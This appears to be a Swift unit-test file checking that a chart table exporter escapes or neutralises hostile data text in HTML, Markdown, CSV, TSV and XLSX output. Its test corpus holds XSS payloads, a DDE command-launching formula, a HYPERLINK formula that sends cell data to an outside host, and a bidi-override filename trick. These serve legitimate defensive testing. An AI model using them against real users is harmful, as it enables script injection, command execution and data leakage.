import ChartpipeCore
import ChartpipeJSON
import ChartpipeText
import Foundation
@testable import Table
import XCTest
import ChartpipeTestSupport

/// Text from the data that would run as markup or as a spreadsheet formula: escaped in HTML and
/// Markdown, neutralised in CSV, TSV and XLSX, while numbers stay numbers.
final class HostileTextTests: XCTestCase {
    static let corpus = [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "]]>", "-->", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\tTab-led", "\rCR-led", "\u{202E}gnp.exe", "-5", "1e3",
    ]

    static func context() throws -> ChartContext {
        let chart = ChartSpec(id: "hostile", title: "<b>Sales</b> =1+1", mark: .bar,
                              source: SourceSpec(path: "/dev/null", displayPath: "data.csv", format: .csv),
                              x: XSpec(field: "label", type: .category, title: "Label"),
                              y: YSpec(fields: ["v"], title: "Value"), seriesField: "who", location: SourceLocation(path: "t.pipeline"))
        let xs = corpus.indices.map(Double.init)
        let set = SeriesSet(xType: .category, categories: corpus, series: [
            TableTests.series("=HYPERLINK(\"x\")", x: xs, y: xs.map { $0 == 0 ? -5 : $0 * 10 }),
            TableTests.series("<script>", x: xs, y: xs.map { $0 == 0 ? 1000 : -$0 }),
        ])
        return try TableTests.context(chart, set)
    }

    func testSpreadsheetFilesNeutraliseFormulasAndKeepNumbers() throws {
        let (files, _) = try TableTests.artifacts(try Table(["formats": ["csv", "tsv", "xlsx"]]), Self.context())
        for (name, delimiter) in [("table.csv", UInt8(ascii: ",")), ("table.tsv", UInt8(0x09))] {
            let rows = try CSVRows.parse(files[name] ?? [], delimiter: delimiter)
            XCTAssertEqual(rows.first, ["Label", "'=HYPERLINK(\"x\")", "<script>"], name)
            XCTAssertEqual(rows.count, Self.corpus.count + 1)
            for (label, row) in zip(Self.corpus, rows.dropFirst()) {
                let formula = ["=", "+", "@", "\t", "\r"].contains { label.hasPrefix($0) } || label == "-2+3" || label == "-->"
                XCTAssertEqual(row[0], formula ? "'" + label : label, "\(name): \(label.debugDescription)")
            }
            // -5 and 1e3 as labels are numbers, not formulas; the values -5 and 1000 are written as numbers.
            XCTAssertEqual(rows[1][1], "-5")
            XCTAssertEqual(rows[1][2], "1000")
            XCTAssertEqual(rows.last?[0], "1e3")
        }
        let csv = String(decoding: files["table.csv"] ?? [], as: UTF8.self)
        XCTAssertTrue(csv.contains("\r\n\"<script>alert(1)</script>\",-5,1000\r\n"), csv)

        let workbook = try TableTests.readWorkbook(files["table.xlsx"] ?? [])
        for sheet in workbook["sheets"]?.arrayValue ?? [] {
            let rows = sheet["rows"]?.arrayValue ?? []
            XCTAssertEqual(rows[0].arrayValue?.first?["value"]?.stringValue, "<b>Sales</b> =1+1")
            XCTAssertEqual(rows[1].arrayValue?[1]["value"]?.stringValue, "=HYPERLINK(\"x\")")
            for row in rows {
                for cell in row.arrayValue ?? [] { XCTAssertNotEqual(cell["type"]?.stringValue, "f", "no cell is a formula: \(cell)") }
            }
            for (label, row) in zip(Self.corpus, rows.dropFirst(2)) {
                let cells = row.arrayValue ?? []
                // A text cell keeps its text exactly, as a string.
                XCTAssertEqual(cells.first?["type"]?.stringValue, "s", label.debugDescription)
                XCTAssertEqual(cells.first?["value"]?.stringValue, label)
            }
            let first = rows[2].arrayValue ?? []
            XCTAssertEqual(first[1]["type"]?.stringValue, "n")
            XCTAssertEqual(first[1]["value"]?.doubleValue, -5)
            XCTAssertEqual(first[3]["value"]?.doubleValue, 1000)
        }
    }

    /// A NUL in a label would end libxlsxwriter's C string there: the cell keeps the rest, with the
    /// NUL written as U+2400 (␀).
    func testANULInALabelDoesNotCutItsCellShort() throws {
        let chart = ChartSpec(id: "nul", title: "N", mark: .bar, source: SourceSpec(path: "/dev/null", displayPath: "data.csv", format: .csv),
                              x: XSpec(field: "label", type: .category, title: "Label"), y: YSpec(fields: ["v"], title: "Value"),
                              location: SourceLocation(path: "t.pipeline"))
        let set = SeriesSet(xType: .category, categories: ["head\u{0}tail", "plain"],
                            series: [TableTests.series("s\u{0}x", x: [0, 1], y: [1, 2])])
        let (files, _) = try TableTests.artifacts(try Table(["formats": ["xlsx"]]), try TableTests.context(chart, set))
        let workbook = try TableTests.readWorkbook(files["table.xlsx"] ?? [])
        let rows = workbook["sheets"]?.arrayValue?.first?["rows"]?.arrayValue ?? []
        let texts = rows.flatMap { $0.arrayValue ?? [] }.compactMap { $0["value"]?.stringValue }
        XCTAssertTrue(texts.contains("head\u{2400}tail"), "\(texts)")
        XCTAssertFalse(texts.contains("head"), "\(texts)")
    }

    func testMarkupFilesEscapeEveryDataDerivedString() throws {
        let (files, _) = try TableTests.artifacts(try Table(["formats": ["md", "html"]]), Self.context())
        for locale in TableTests.locales {
            let html = String(decoding: files["table.\(locale).html"] ?? [], as: UTF8.self)
            let md = String(decoding: files["table.\(locale).md"] ?? [], as: UTF8.self)
            for raw in ["<script", "<img", "<b>", "-->"] {
                XCTAssertFalse(html.contains(raw), "\(locale) HTML holds \(raw)")
                // Markdown escapes what would open markup with a backslash.
                XCTAssertFalse(md.replacingOccurrences(of: "\\<", with: "").contains(raw), "\(locale) Markdown holds \(raw)")
            }
            for label in Self.corpus {
                XCTAssertTrue(html.contains(">\(HTML.text(label))</th>"), "\(locale) HTML: \(label.debugDescription)")
                XCTAssertTrue(md.contains("| \(Markdown.text(label)) |"), "\(locale) Markdown: \(label.debugDescription)")
            }
            // A bidi override stays inside a cell that isolates it; Markdown shows it as U+FFFD.
            for line in html.split(separator: "\n") where line.contains("\u{202E}") {
                XCTAssertTrue(line.hasPrefix("<tr><th scope=\"row\" dir=\"auto\">\u{202E}"), String(line))
            }
            XCTAssertFalse(md.contains("\u{202E}"))
            XCTAssertTrue(md.contains("\u{FFFD}gnp.exe"))
            XCTAssertTrue(html.contains("<title>&lt;b&gt;Sales&lt;/b&gt; =1+1</title>"))
        }
    }
}
